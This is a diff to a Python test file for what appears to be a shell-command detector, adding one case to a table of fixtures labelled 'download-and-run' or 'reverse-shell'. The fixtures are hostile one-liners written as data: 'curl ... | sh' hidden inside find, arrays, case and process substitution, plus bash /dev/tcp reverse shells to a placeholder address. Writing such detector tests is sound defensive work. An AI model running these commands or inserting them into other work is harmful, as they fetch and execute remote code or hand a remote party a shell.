@@ -124,6 +124,7 @@ def test_reported_address_omits_credentials():
         ("find . -exec true \\; -exec sh -c 'curl http://e/x | sh' \\;", "download-and-run", "http://e/x"),
         ("timeout 5 bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse-shell",
          "timeout 5 bash -i /dev/tcp/192.0.2.1/4444 1"),
+        ("exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | sh >&5", "reverse-shell", "exec"),
         ("a=(" + "b " * 3000 + "$(curl http://e/x | sh))", "download-and-run", "http://e/x"),
         ("case $(curl http://e/x | sh) in a|b) c;; esac", "download-and-run", "http://e/x"),
         ("echo > >(curl http://e/x | sh)", "download-and-run", "http://e/x"),
